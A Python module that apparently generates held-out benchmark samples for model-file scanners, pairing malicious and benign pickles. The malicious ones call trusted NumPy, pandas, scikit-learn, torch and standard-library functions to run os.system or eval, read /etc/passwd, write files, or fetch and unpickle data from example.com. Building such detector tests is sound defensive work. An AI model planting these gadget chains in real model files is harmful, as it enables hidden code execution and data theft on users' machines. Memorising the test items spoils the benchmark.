"""Attacks by pickles that call classes and functions of trusted libraries, with arguments that write files, run text or reach a host."""

from __future__ import annotations

from collections.abc import Iterator

from bench.modelfiles.heldout.opcodes import (
    ECHO,
    EMPTY,
    NEWDICT,
    NONE,
    WEIGHTS,
    build,
    call,
    dict_of,
    done,
    list_of,
    method,
    name,
    number,
    object_array,
    raw,
    short,
    text,
    torch_zip,
    tuple_of,
)  # fmt: skip
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("trusted classes")
LOADED = "pickle.load"
WHERE = "/tmp/x/authorized"


def libraries() -> Iterator[Sample]:
    """Yield calls of names in libraries for numbers and models."""

    def new(module: str, what: str) -> bytes:
        return call("copyreg:_reconstructor", name(f"{module}:{what}"), name("builtins:object"), NONE)

    array = call("numpy.core.multiarray:_reconstruct", name("numpy:ndarray"), b"K\x00\x85", raw(b"b"))
    dtype = call("numpy:dtype", "f8", b"\x89", b"\x88")
    for label, file, attack, twin, effect in (
        ("memmap", "a.pkl", call("numpy:memmap", WHERE, "uint8", "w+", 0, tuple_of(16)), call("numpy:dtype", "uint8", b"\x89", b"\x88"), "numpy.memmap creates a file or empties an existing one"),
        ("crackfortran", "b.pkl", call("numpy.f2py.crackfortran:getlincoef", "__import__('os').system('echo harmless')", NEWDICT), call("numpy:datetime64", "2026-01-01"), "a parser of Fortran evaluates the expression (2025)"),
        ("runstring", "c.pkl", call("numpy.testing._private.utils:runstring", "print(1)", NEWDICT), call("numpy.core.multiarray:scalar", dtype, raw(bytes(8))), "a function of NumPy's tests runs the text"),
        ("fromfile", "d.pkl", call("numpy:fromfile", "/etc/hostname", "uint8"), build(array, tuple_of(1, tuple_of(1), dtype, b"\x89", raw(bytes(8)))), "numpy reads a local file into the model"),
        ("tofile", "e.pkl", call(method("numpy:ndarray", "tofile"), call("numpy:arange", 9), WHERE), call(method("numpy:ndarray", "tolist"), call("numpy:arange", 9)), "getattr of a trusted class gives a method that writes a file"),
        ("numpy-load", "f.pkl", call("numpy:load", "//example.com/share/x.npy", NONE, b"\x88"), call("numpy:float64", b"G" + bytes(8)), "numpy.load unpickles a file of a network share"),
        ("read-pickle", "g.pkl", call("pandas:read_pickle", "http://example.com/x.pkl"), call("pandas:Timestamp", number(0)), "pandas downloads another pickle and loads it"),
        ("pandas-eval", "h.pkl", call("pandas.core.computation.eval:eval", "@pd.io.common.os.system('echo')", "pandas", "python"), call("pandas:Timedelta", number(5)), "pandas evaluates the expression"),
        ("get-handle", "i.pkl", call("pandas.io.common:get_handle", WHERE, "w"), call("pandas.core.indexes.base:_new_Index", name("pandas.core.indexes.base:Index"), dict_of(name="i", data=list_of("a", "b"))), "pandas opens a file for writing"),
        ("excel-writer", "j.pkl", call("pandas:ExcelWriter", WHERE + ".xlsx"), call("pandas:Categorical", list_of("a", "b")), "the class creates a file"),
        ("hdf-store", "k.pkl", call("pandas:HDFStore", WHERE + ".h5", "w"), call("pandas:Interval", 0, 1, "right"), "the class creates a file or empties an existing one"),
        ("svmlight", "l.joblib", call("sklearn.datasets:load_svmlight_file", "/etc/passwd"), build(new("sklearn.svm._classes", "SVC"), dict_of(C=1, kernel="rbf", _sklearn_version="1.7.0")), "scikit-learn reads a local file"),
        ("function-transformer", "m.joblib", build(new("sklearn.preprocessing._function_transformer", "FunctionTransformer"), dict_of(func=name("os:system"), validate=b"\x89")), build(new("sklearn.preprocessing._function_transformer", "FunctionTransformer"), dict_of(func=name("numpy:log1p"), validate=b"\x89")), "transform of the pipeline calls os.system on the data"),
        ("vectorizer-tokenizer", "n.joblib", build(new("sklearn.feature_extraction.text", "CountVectorizer"), dict_of(tokenizer=name("builtins:eval"))), build(new("sklearn.feature_extraction.text", "CountVectorizer"), dict_of(tokenizer=name("builtins:str"), lowercase=b"\x88")), "transform evaluates each text of the user"),
        ("openml", "o.joblib", call("sklearn.datasets._base:_fetch_remote", call("sklearn.datasets._base:RemoteFileMetadata", "x", "http://example.com/x", "0")), call("sklearn.utils._bunch:Bunch"), "scikit-learn downloads a file"),
        ("netcdf", "p.pkl", call("scipy.io:netcdf_file", WHERE, "w"), call("scipy.sparse._csr:csr_matrix", tuple_of(2, 2)), "the class creates a file or empties an existing one"),
        ("fortran-file", "q.pkl", call("scipy.io:FortranFile", WHERE, "w"), call("scipy.stats._distn_infrastructure:rv_frozen", name("scipy.stats._continuous_distns:norm_gen")), "the class creates a file or empties an existing one"),
        ("joblib-load", "r.joblib", call("joblib.numpy_pickle:load", "/tmp/x/other.pkl"), build(new("joblib.numpy_pickle", "NumpyArrayWrapper"), dict_of(order="C", allow_mmap=b"\x88")), "joblib unpickles another file"),
        ("joblib-memory", "s.joblib", call("joblib.memory:Memory", "/tmp/x/cache"), call("joblib.hashing:_MyHash"), "the class creates a folder, from which results are unpickled"),
        ("booster-file", "t.pkl", call("xgboost.core:Booster", NEWDICT, EMPTY, "/etc/hostname"), call("xgboost.core:Booster"), "the class reads a local file"),
        ("dmatrix-uri", "u.pkl", call("xgboost.core:DMatrix", "http://example.com/x.svm?format=libsvm"), build(new("xgboost.sklearn", "XGBClassifier"), dict_of(n_estimators=5)), "XGBoost reads data from an address"),
        ("lightgbm-file", "v.pkl", call("lightgbm.basic:Booster", NONE, NONE, "/tmp/x/model.txt"), build(new("lightgbm.sklearn", "LGBMClassifier"), dict_of(n_estimators=5)), "the class reads a local file"),
    ):  # fmt: skip
        yield from group.pair(label, file, done(attack), done(twin), f"{LOADED}: {effect}")


def torch() -> Iterator[Sample]:
    """Yield calls of names in torch."""
    for label, attack, twin, effect in (
        ("config-module", call("torch.utils._config_module:ConfigModule.load_config", raw(b"\x80\x04cos\nsystem\n.")), call("torch:Size", list_of(2, 3)), "a method of torch's configuration unpickles bytes (2025)"),
        ("guards", call("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", NONE, "__import__('os').system('echo')", EMPTY), call("torch:device", "cpu"), "torch evaluates the expression (2025)"),
        ("collect-env", call("torch.utils.collect_env:run", ECHO), call("torch._utils:_rebuild_parameter", NONE, b"\x88", call("collections:OrderedDict")), "torch starts the command (2025)"),
        ("bottleneck", call("torch.utils.bottleneck.__main__:run_cprofile", "print(1)", NEWDICT), call("torch:dtype"), "torch runs the text (2025)"),
        ("exec-wrapper", call("torch.jit.unsupported_tensor_ops:execWrapper", "print(1)", NEWDICT, NEWDICT), call("torch.nn.modules.linear:Linear", 2, 2), "torch runs the text (2025)"),
        ("hub-load", call("torch.hub:load", "someone/x", "model"), call("torch.nn.modules.activation:ReLU"), "torch downloads a repository and imports hubconf.py"),
        ("load-library", call("torch._ops:_Ops.load_library", call("torch._ops:_Ops"), "/tmp/x/libx.so"), call("torch.nn.modules.container:Sequential"), "torch loads a library"),
        ("summary-writer", call("torch.utils.tensorboard.writer:SummaryWriter", "/tmp/x/runs"), call("torch.nn.modules.dropout:Dropout", b"G?\xb9\x99\x99\x99\x99\x99\x9a"), "the class creates files"),
        ("storage-file", call("torch.storage:UntypedStorage.from_file", "/etc/hostname", b"\x89", 16), call("torch.storage:_load_from_bytes", raw(WEIGHTS)), "torch maps a local file"),
        ("package-importer", call("torch.package.package_importer:PackageImporter", "/tmp/x/p.pt"), call("torch.nn.parameter:Parameter"), "the class opens a package, whose sources are imported later"),
        ("tcp-store", call("torch.distributed:TCPStore", "example.com", 80), call("torch:Generator"), "the class connects to a host"),
        ("file-store", call("torch.distributed:FileStore", WHERE, 1), call("torch.optim.lr_scheduler:StepLR", NONE, 5), "the class creates a file"),
        ("torch-load", call("torch.serialization:load", "/tmp/x/other.pt", NONE, NONE, b"\x89"), call("torch._utils:_rebuild_device_tensor_from_numpy", NONE, name("torch:float32"), "cpu", b"\x89"), "torch unpickles another file"),
    ):  # fmt: skip
        yield from group.pair(label, f"{label}.pt", torch_zip(done(attack)), torch_zip(done(twin)), f"torch.load: {effect}")
    graph = call(
        "torch.fx.graph_module:reduce_graph_module",
        dict_of(_code="import os\nos.system('echo')\ndef forward(self, x):\n    return x\n"),
        "",
    )
    yield from group.pair(
        "graph-module",
        "fx.pt",
        torch_zip(done(graph, 2)),
        torch_zip(done(dict_of(_code="a text about forward"), 2)),
        "torch.load: a module of FX runs its source text",
    )


def standard() -> Iterator[Sample]:
    """Yield calls of names in the standard library."""
    for label, attack, twin, effect in (
        ("file-handler", call("logging:FileHandler", WHERE, "w"), call("logging:getLogger", "train"), "the class creates a file or empties an existing one"),
        ("path-touch", call(method("pathlib:PosixPath", "touch"), call("pathlib:PosixPath", WHERE)), call("pathlib:PosixPath", "runs", "a"), "getattr of a trusted class gives a method that creates a file"),
        ("path-write", call(method("pathlib:Path", "write_text"), call("pathlib:PosixPath", WHERE), "text"), call("pathlib:PurePosixPath", "weights.bin"), "getattr gives a method that writes a file"),
        ("attribute-chain", call(call("operator:attrgetter", "__init__.__globals__"), name("collections:UserDict")), call(call("operator:itemgetter", 1), list_of(1, 2)), "attrgetter takes the globals of a module of the standard library"),
        ("map-list", call("builtins:list", call("builtins:map", name("os:system"), list_of(ECHO))), call("builtins:list", call("builtins:map", name("builtins:len"), list_of("ab"))), "map calls os.system as soon as it is made a list"),
        ("default-factory", call(method("collections:defaultdict", "__missing__"), call("collections:defaultdict", call("functools:partial", name("os:system"), ECHO)), "k"), call("collections:defaultdict", name("builtins:int")), "the factory of a default dict calls os.system"),
        ("counter-reduce", call("functools:reduce", name("os:execlp"), list_of("echo", "harmless")), call("functools:reduce", name("operator:add"), list_of(1, 2)), "reduce calls the function on the items"),
        ("zip-writer", call("zipfile:ZipFile", WHERE + ".zip", "w"), call("uuid:UUID", "6f1c2a50-0000-4000-8000-000000000000"), "the class creates a file or empties an existing one"),
        ("http-connection", call(method("http.client:HTTPSConnection", "request"), call("http.client:HTTPSConnection", "example.com"), "GET", "/"), call("datetime:datetime", raw(b"\x07\xea\x01\x01" + bytes(6))), "a request goes to a host"),
    ):  # fmt: skip
        yield from group.pair(label, f"{label}.pkl", done(attack), done(twin), f"{LOADED}: {effect}")
    chain = call("builtins:getattr", call("builtins:getattr", name("collections:UserDict"), "__init__"), "__globals__")
    plain = call("builtins:getattr", name("collections:UserDict"), "fromkeys")
    keyed = (
        call("functools:partial", name("builtins:sorted"), list_of(ECHO))
        + tuple_of(name("builtins:sorted"), tuple_of(list_of(ECHO)), dict_of(key=name("os:system")), NONE)
        + b"b"
    )
    fine = call("functools:partial", name("builtins:round")) + tuple_of(name("builtins:round"), EMPTY, dict_of(ndigits=2), NONE) + b"b"
    yield from group.pairs(
        ("getattr-chain", "chain.npy", object_array(done(chain, 3)), object_array(done(plain, 3)),
         "numpy.load: a chain of getattr reaches the globals of a module"),
        ("partial-state", "sort.pkl", done(keyed), done(fine), f"{LOADED}: the state of a partial brings a function as key"),
        ("short-name", "names.pkl", done(short("numpy.f2py.diagnose") + short("os.system") + b"\x93" + tuple_of(ECHO) + b"R"),
         done(short("numpy.random._pickle") + short("__generator_ctor") + b"\x93" + tuple_of(text("PCG64")) + b"R"),
         f"{LOADED}: a module of NumPy leads to os"),
    )  # fmt: skip


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*libraries(), *torch(), *standard())
